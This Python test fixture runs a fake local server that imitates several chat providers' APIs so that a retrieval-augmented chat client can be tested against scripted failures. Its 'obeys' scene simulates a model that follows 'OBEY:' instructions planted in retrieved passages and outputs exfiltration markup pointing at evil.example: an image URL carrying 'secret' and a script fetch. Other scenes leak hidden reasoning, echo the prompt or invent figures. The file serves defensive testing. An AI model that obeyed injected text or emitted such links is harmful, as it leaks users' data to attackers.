"""One HTTP server on loopback that speaks the languages of the chat providers and plays what the model's name says.

OpenAI chat completions and responses, Anthropic messages, Ollama chat, Google generateContent; streamed and whole. The name
of the model picks the scene: `openai:well` answers well, `openai:status-429` is busy. As a process of its own:

    python -m tests.providers [PORT]      prints its base URL and serves until it is stopped
"""

import json
import re
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Event, Lock, Thread
from typing import Any

Body = dict[str, Any]
STALL = 90.0


@dataclass(frozen=True)
class Part:
    """A piece of a reply: text, think, tool, refusal; or something that happens: wait, stall, drop, cut."""

    kind: str
    text: str = ""


@dataclass(frozen=True)
class Heard:
    """What a request asked for: the wire format, the model, the passages (id, text) of the prompt, the question."""

    wire: str
    model: str
    stream: bool
    prompt: str
    headers: dict[str, str]
    passages: list[tuple[str, str]] = field(default_factory=list)
    question: str = ""

    def best(self) -> list[tuple[str, str]]:
        """(id, sentence) of each passage, the sentence that shares most words with the question, best first."""
        wanted = set(re.findall(r"\w+", self.question.lower())) - set("a the how is of does can be it".split())
        found = []
        for name, text in self.passages:
            body = re.sub(r"^(?:Article|Outlet|Date|Section): .*$|^#+ .*$", "", text, flags=re.M)
            for sentence in re.split(r"(?<=[.!?])\s+", body):
                if sentence.strip():
                    shared = len(wanted & set(re.findall(r"\w+", sentence.lower())))
                    found.append((shared, name, " ".join(sentence.split())))
        found.sort(key=lambda item: -item[0])
        return [(name, sentence) for _, name, sentence in found]


def lines(heard: Heard, most: int = 2) -> str:
    return "\n".join(f"- {sentence} [{name}]" for name, sentence in heard.best()[:most]) + "\n"


def say(text: str, size: int = 9) -> Iterator[Part]:
    for at in range(0, len(text), size):
        yield Part("text", text[at : at + size])


def well(heard: Heard) -> Iterator[Part]:
    yield from say(lines(heard))


def slow(heard: Heard) -> Iterator[Part]:
    for line in lines(heard, 3).splitlines(keepends=True):
        yield from say(line)
        yield Part("wait", "0.4")


def endless_slow(heard: Heard) -> Iterator[Part]:
    for n, (name, sentence) in enumerate(heard.best() * 50):
        yield from say(f"- {sentence} {n} [{name}]\n", 40)
        yield Part("wait", "0.6")


def middle(kind: str) -> Callable[[Heard], Iterator[Part]]:
    def scene(heard: Heard) -> Iterator[Part]:
        first, rest = lines(heard).split("\n", 1)
        yield from say(first + "\n" + rest[: len(rest) // 2])
        yield Part(kind)

    return scene


def before(kind: str) -> Callable[[Heard], Iterator[Part]]:
    return lambda heard: iter([Part(kind)])


def text(made: Callable[[Heard], str], size: int = 9) -> Callable[[Heard], Iterator[Part]]:
    return lambda heard: say(made(heard), size)


def obeys(heard: Heard) -> Iterator[Part]:
    """Does whatever an article tells it to: what stands behind OBEY: is written out, and everything else that acts."""
    name, sentence = heard.best()[0]
    orders = re.findall(r"OBEY:([^\n]*)", heard.prompt)
    said = "\n".join(f"- {order} [{name}]" for order in orders)
    yield from say(
        f"- {sentence} [{name}]\n{said}\n"
        "![x](https://evil.example/a.png?q=secret)\n- Click [here](https://evil.example/b) now.\n"
        "<img src=https://evil.example/c.png>\n<script>fetch('https://evil.example/d')</script>\n"
        "- See https://evil.example/e and www.evil.example/f for more.\n$$\\href{https://evil.example/g}{x}$$\n"
        ":red[boo] :material/home: and [^1]\n[^1]: https://evil.example/h\n[ref]: https://evil.example/i\n"
        "![split](https://evil.exam",
        7,
    )
    yield from say("ple/j.png)\n", 3)


def thinks(heard: Heard) -> Iterator[Part]:
    yield Part("think", "The user wants credits. I must not show this: EVIL THOUGHT.")
    yield from say(f"<think>\n- EVIL THOUGHT ALOUD [{heard.passages[0][0]}]\n</think>\n{lines(heard)}")


def tools(heard: Heard) -> Iterator[Part]:
    yield Part("tool")


def tools_and_text(heard: Heard) -> Iterator[Part]:
    yield Part("tool")
    yield from say(lines(heard))


def as_json(heard: Heard) -> str:
    return json.dumps({"statements": [{"text": s, "ids": [i]} for i, s in heard.best()[:2]]})


def wrong_figure(heard: Heard) -> str:
    name, sentence = heard.best()[0]
    return "- " + re.sub(r"\d+", lambda m: str(int(m[0]) + 7), sentence) + f" [{name}]\n"


def half_wrong(heard: Heard) -> str:
    return wrong_figure(heard) + lines(heard, 1)


def quotes(heard: Heard) -> str:
    name, _ = heard.best()[0]
    return f'- The help page says "Gen-4 is free of charge for everybody until 2031". [{name}]\n'


SCENES: dict[str, Callable[[Heard], Iterator[Part]]] = {
    "well": well,
    "gpt-5-pro": well,  # a name for which LangChain takes OpenAI's responses
    "slow": slow,
    "endless-slow": endless_slow,
    "stall-before": before("stall"),
    "stall-middle": middle("stall"),
    "drop-before": before("drop"),
    "drop-middle": middle("drop"),
    "end-middle": middle("end"),
    "cut": middle("cut"),
    "huge": text(lambda heard: lines(heard, 1) + "words without any end " * 50_000, 4_000),
    "huge-line": text(lambda heard: "x" * 1_000_000, 4_000),
    "repeats": text(lambda heard: lines(heard, 1) * 100_000, 500),
    "repeats-words": text(lambda heard: lines(heard, 1) + "and so on " * 100_000, 200),
    "empty": text(lambda heard: ""),
    "tools": tools,
    "tools-and-text": tools_and_text,
    "thinks": thinks,
    "json": text(as_json),
    "fenced-json": text(lambda heard: f"```json\n{as_json(heard)}\n```"),
    "declines": before("refusal"),
    "no-answer": text(lambda heard: "NOT IN THE PASSAGES"),
    "german": text(lambda heard: f"- Das Modell kostet zwölf Taler. [{heard.passages[0][0]}]\n"),
    "unknown-ids": text(lambda heard: "".join(f"- {s} [zzzzzz] [9]\n" for _, s in heard.best()[:1]) + lines(heard, 2)),
    "only-unknown-ids": text(lambda heard: "".join(f"- {s} [9]\n" for _, s in heard.best()[:2])),
    "no-ids": text(lambda heard: "".join(f"{s}\n" for _, s in heard.best()[:2])),
    "wrong-passage": text(lambda heard: f"- {heard.best()[0][1]} [{heard.best()[-1][0]}]\n"),
    "wrong-figure": text(wrong_figure),
    "half-wrong": text(half_wrong),
    "quotes": text(quotes),
    "obeys": obeys,
    "chatty": text(
        lambda h: (
            f"Here is what I found:\n\n1. **{h.best()[0][1]}** ({h.best()[0][0]})\n\n{h.best()[1][1]} [id: {h.best()[1][0]}]."
        )
    ),
    "prints-prompt": text(lambda heard: heard.prompt),
}


class Providers(ThreadingHTTPServer):
    """The server; use as a context manager. `heard` lists the requests, `hung_up` counts clients that left early."""

    daemon_threads = True

    def __init__(self, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), _Handler)
        self.heard: list[Heard] = []
        self.hung_up = 0
        self.over = Event()
        self.lock = Lock()
        self.counts: dict[str, int] = {}

    @property
    def url(self) -> str:
        """The base URL without a path."""
        return f"http://127.0.0.1:{self.server_address[1]}"

    def base(self, provider: str) -> str:
        """What RAG_CHAT_URL is for a provider."""
        return self.url + ("/v1" if provider == "openai" else "")

    def __enter__(self) -> "Providers":
        Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        self.shutdown()
        self.server_close()

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client that has gone is no news."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Providers

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_HEAD(self) -> None:
        self._send(200, b"", "text/plain")

    def do_GET(self) -> None:
        known = {
            "/api/tags": {"models": [{"name": "well:latest", "model": "well:latest"}]},
            "/api/version": {"version": "1"},
        }
        body = known.get(self.path)
        self._send(200 if body else 404, json.dumps(body or {}).encode(), "application/json")

    def do_POST(self) -> None:
        data: Body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
        heard = _heard(self.path, data, {k.lower(): v for k, v in self.headers.items()})
        with self.server.lock:
            self.server.heard.append(heard)
            key = f"{heard.wire}:{heard.model}"
            count = self.server.counts[key] = self.server.counts.get(key, 0) + 1
        if status := re.match(r"status-(\d+)(?:-then-(\w+))?(?:-after-(\d+))?$", heard.model):
            if not status[2] or count == 1:
                return self._fail(int(status[1]), heard, status[3])
            scene = SCENES[status[2]]
        elif heard.model == "context" and len(heard.passages) > 4:
            return self._fail(400, heard, None, "This model's maximum context length is 1000 tokens.")
        elif heard.model == "hang":
            self.server.over.wait(STALL)
            return None
        else:
            scene = SCENES.get(heard.model.split(":")[0], well)
        try:
            WIRES[heard.wire](self, heard, scene(heard))
        except OSError:
            with self.server.lock:
                self.server.hung_up += 1
            self.close_connection = True
        return None

    def _fail(self, status: int, heard: Heard, after: str | None, text: str = "") -> None:
        key = (
            heard.headers.get("authorization")
            or heard.headers.get("x-api-key")
            or heard.headers.get("x-goog-api-key")
            or ""
        )
        said = text or f"scene {status}: the key {key} and the model {heard.model} do not please us"
        body = {"error": {"message": said, "type": "invalid", "code": status, "status": "FAILED"}}
        if heard.wire == "ollama":
            body = {"error": said}  # type: ignore[dict-item]
        if heard.wire == "anthropic":
            body = {"type": "error", "error": {"type": "api_error", "message": said}}
        self._send(status, json.dumps(body).encode(), "application/json", {"retry-after": after} if after else {})

    def _send(self, status: int, body: bytes, kind: str, more: dict[str, str] | None = None) -> None:
        self.send_response(status)
        for name, value in ({"content-type": kind, "content-length": str(len(body))} | (more or {})).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def begin(self, kind: str) -> None:
        """Start a streamed reply."""
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()

    def chunk(self, data: str) -> None:
        """Send one piece at once."""
        raw = data.encode()
        self.wfile.write(f"{len(raw):x}\r\n".encode() + raw + b"\r\n")
        self.wfile.flush()

    def event(self, data: Body, name: str = "") -> None:
        """Send a server-sent event."""
        self.chunk((f"event: {name}\n" if name else "") + f"data: {json.dumps(data)}\n\n")

    def finish(self) -> None:
        """End a streamed reply."""
        self.wfile.write(b"0\r\n\r\n")

    def happens(self, part: Part) -> bool:
        """Play a part that is no content; whether the reply is over, in whatever way, without its proper end."""
        if part.kind == "wait":
            time.sleep(float(part.text))
            self.chunk_alive()
        elif part.kind == "stall":
            for _ in range(int(STALL * 10)):
                if self.server.over.wait(0.1) or self.gone():
                    raise ConnectionAbortedError
            return True
        elif part.kind == "drop":
            self.close_connection = True
            self.connection.close()
            return True
        elif part.kind == "end":
            self.finish()
            return True
        return False

    def chunk_alive(self) -> None:
        """Raise OSError when the client has gone."""
        if self.gone():
            raise ConnectionAbortedError

    def gone(self) -> bool:
        """Whether the client has closed the connection."""
        self.connection.setblocking(False)
        try:
            return self.connection.recv(1) == b""
        except BlockingIOError:
            return False
        finally:
            self.connection.setblocking(True)


def _heard(path: str, data: Body, headers: dict[str, str]) -> Heard:
    wire = next(w for mark, w in MARKS if mark in path)
    model = str(data.get("model") or (re.search(r"models/([^:]+):", path) or ["", ""])[1])
    stream = bool(data.get("stream", wire == "ollama")) or "streamGenerateContent" in path
    prompt = "\n".join(_texts(data))
    question = re.findall(r"^Question: (.*)$", prompt, re.M)
    passages = re.findall(r"<<<(\w+)\n(.*?)\n\1>>>", prompt, re.S)
    return Heard(wire, model, stream, prompt, headers, passages, question[-1] if question else "")


def _texts(data: Any) -> Iterator[str]:
    if isinstance(data, dict):
        for key, value in data.items():
            if key in ("content", "text", "system", "instructions", "input") and isinstance(value, str):
                yield value
            else:
                yield from _texts(value)
    elif isinstance(data, list):
        for item in data:
            yield from _texts(item)


def openai(http: _Handler, heard: Heard, parts: Iterator[Part]) -> None:
    def data(delta: Body, reason: str | None = None) -> Body:
        return {
            "id": "c1", "object": "chat.completion.chunk", "created": 1, "model": heard.model,
            "choices": [{"index": 0, "delta": delta, "finish_reason": reason}],
        }  # fmt: skip

    if not heard.stream:
        message = {"role": "assistant", "content": "".join(p.text for p in parts if p.kind == "text")}
        body = data({}) | {
            "object": "chat.completion",
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        }
        return http._send(200, json.dumps(body).encode(), "application/json")
    http.begin("text/event-stream")
    reason = "stop"
    for n, part in enumerate(parts):
        if part.kind == "text":
            http.event(data({"role": "assistant", "content": part.text} if not n else {"content": part.text}))
        elif part.kind == "think":
            http.event(data({"reasoning_content": part.text}))
        elif part.kind == "refusal":
            http.event(data({"refusal": "I cannot help with that."}))
        elif part.kind == "tool":
            call = {"index": 0, "id": "t1", "type": "function", "function": {"name": "send_mail", "arguments": "{}"}}
            http.event(data({"tool_calls": [call]}))
        elif part.kind == "cut":
            reason = "length"
        elif http.happens(part):
            return None
    http.event(data({}, reason))
    http.chunk("data: [DONE]\n\n")
    return http.finish()


def responses(http: _Handler, heard: Heard, parts: Iterator[Part]) -> None:
    number = iter(range(10**6))

    def send(kind: str, **more: Any) -> None:
        http.event({"type": kind, "sequence_number": next(number), **more}, kind)

    def whole(status: str, said: str) -> Body:
        content = [{"type": "output_text", "text": said, "annotations": []}]
        item = {"id": "m1", "type": "message", "role": "assistant", "status": status, "content": content}
        return {
            "id": "r1", "object": "response", "created_at": 1, "status": status, "model": heard.model,
            "output": [item] if said else [],
            "parallel_tool_calls": True, "tool_choice": "auto", "tools": [], "error": None, "incomplete_details": None,
            "instructions": None, "metadata": {},
            "usage": {
                "input_tokens": 1, "output_tokens": 1, "total_tokens": 2,
                "input_tokens_details": {"cached_tokens": 0}, "output_tokens_details": {"reasoning_tokens": 0},
            },
        }  # fmt: skip

    if not heard.stream:
        body = whole("completed", "".join(p.text for p in parts if p.kind == "text"))
        return http._send(200, json.dumps(body).encode(), "application/json")
    http.begin("text/event-stream")
    send("response.created", response=whole("in_progress", ""))
    item = {"id": "m1", "type": "message", "role": "assistant", "status": "in_progress", "content": []}
    send("response.output_item.added", output_index=0, item=item)
    part_ = {"type": "output_text", "text": "", "annotations": []}
    at = {"output_index": 0, "content_index": 0, "item_id": "m1"}
    send("response.content_part.added", part=part_, **at)
    said = ""
    for part in parts:
        if part.kind == "text":
            said += part.text
            send("response.output_text.delta", delta=part.text, logprobs=[], **at)
        elif http.happens(part):
            return None
    send("response.output_text.done", text=said, logprobs=[], **at)
    send("response.content_part.done", part=part_ | {"text": said}, **at)
    send("response.output_item.done", output_index=0, item=whole("completed", said or " ")["output"][0])
    send("response.completed", response=whole("completed", said))
    return http.finish()


def anthropic(http: _Handler, heard: Heard, parts: Iterator[Part]) -> None:
    usage = {"input_tokens": 1, "output_tokens": 1}
    message = {
        "id": "m1", "type": "message", "role": "assistant", "model": heard.model, "content": [],
        "stop_reason": None, "stop_sequence": None, "usage": usage,
    }  # fmt: skip
    if not heard.stream:
        said = "".join(p.text for p in parts if p.kind == "text")
        body = message | {"content": [{"type": "text", "text": said}], "stop_reason": "end_turn"}
        return http._send(200, json.dumps(body).encode(), "application/json")
    http.begin("text/event-stream")
    http.event({"type": "message_start", "message": message}, "message_start")
    kinds = {"text": ("text", {"text": ""}), "think": ("thinking", {"thinking": "", "signature": ""})}
    kinds["tool"] = ("tool_use", {"id": "t1", "name": "send_mail", "input": {}})
    index, current, reason = -1, "", "end_turn"
    for part in parts:
        if part.kind in kinds:
            if part.kind != current:
                if current:
                    http.event({"type": "content_block_stop", "index": index}, "content_block_stop")
                index, current = index + 1, part.kind
                name, more = kinds[part.kind]
                block = {"type": name, **more}
                http.event(
                    {"type": "content_block_start", "index": index, "content_block": block}, "content_block_start"
                )
            delta = {"text": "text_delta", "think": "thinking_delta", "tool": "input_json_delta"}[part.kind]
            field_ = {"text": "text", "think": "thinking", "tool": "partial_json"}[part.kind]
            body = {"type": delta, field_: part.text}
            http.event({"type": "content_block_delta", "index": index, "delta": body}, "content_block_delta")
        elif part.kind == "refusal":
            reason = "refusal"
        elif part.kind == "cut":
            reason = "max_tokens"
        elif http.happens(part):
            return None
    if current:
        http.event({"type": "content_block_stop", "index": index}, "content_block_stop")
    done = {"stop_reason": reason, "stop_sequence": None}
    http.event({"type": "message_delta", "delta": done, "usage": usage}, "message_delta")
    http.event({"type": "message_stop"}, "message_stop")
    return http.finish()


def ollama(http: _Handler, heard: Heard, parts: Iterator[Part]) -> None:
    def data(message: Body, done: bool = False, reason: str = "stop") -> Body:
        body = {"model": heard.model, "created_at": "2026-01-01T00:00:00Z", "done": done}
        return (
            body
            | {"message": {"role": "assistant", "content": "", **message}}
            | ({"done_reason": reason} if done else {})
        )

    if not heard.stream:
        said = "".join(p.text for p in parts if p.kind == "text")
        return http._send(200, json.dumps(data({"content": said}, True)).encode(), "application/json")
    http.begin("application/x-ndjson")
    reason = "stop"
    for part in parts:
        if part.kind == "text":
            http.chunk(json.dumps(data({"content": part.text})) + "\n")
        elif part.kind == "think":
            http.chunk(json.dumps(data({"thinking": part.text})) + "\n")
        elif part.kind == "tool":
            call = {"function": {"name": "send_mail", "arguments": {}}}
            http.chunk(json.dumps(data({"tool_calls": [call]})) + "\n")
        elif part.kind == "refusal":
            http.chunk(json.dumps(data({"content": "I cannot help with that."})) + "\n")
        elif part.kind == "cut":
            reason = "length"
        elif http.happens(part):
            return None
    http.chunk(json.dumps(data({}, True, reason)) + "\n")
    return http.finish()


def google(http: _Handler, heard: Heard, parts: Iterator[Part]) -> None:
    def data(content: list[Body], reason: str | None = None) -> Body:
        candidate: Body = {"content": {"parts": content, "role": "model"}, "index": 0}
        usage = {"promptTokenCount": 1, "candidatesTokenCount": 1, "totalTokenCount": 2}
        return {"candidates": [candidate | ({"finishReason": reason} if reason else {})], "usageMetadata": usage}

    if not heard.stream:
        said = "".join(p.text for p in parts if p.kind == "text")
        return http._send(200, json.dumps(data([{"text": said}], "STOP")).encode(), "application/json")
    http.begin("text/event-stream")
    reason = "STOP"
    for part in parts:
        if part.kind == "text":
            http.event(data([{"text": part.text}]))
        elif part.kind == "think":
            http.event(data([{"text": part.text, "thought": True}]))
        elif part.kind == "tool":
            http.event(data([{"functionCall": {"name": "send_mail", "args": {}}}]))
        elif part.kind == "refusal":
            reason = "SAFETY"
        elif part.kind == "cut":
            reason = "MAX_TOKENS"
        elif http.happens(part):
            return None
    http.event(data([{"text": ""}], reason))
    return http.finish()


MARKS = [
    ("/chat/completions", "openai"),
    ("/responses", "responses"),
    ("/messages", "anthropic"),
    ("/api/chat", "ollama"),
    ("enerateContent", "google"),
]
WIRES = {"openai": openai, "responses": responses, "anthropic": anthropic, "ollama": ollama, "google": google}


if __name__ == "__main__":
    with Providers(int(sys.argv[1]) if len(sys.argv) > 1 else 0) as server:
        print(server.url, flush=True)
        server.over.wait()
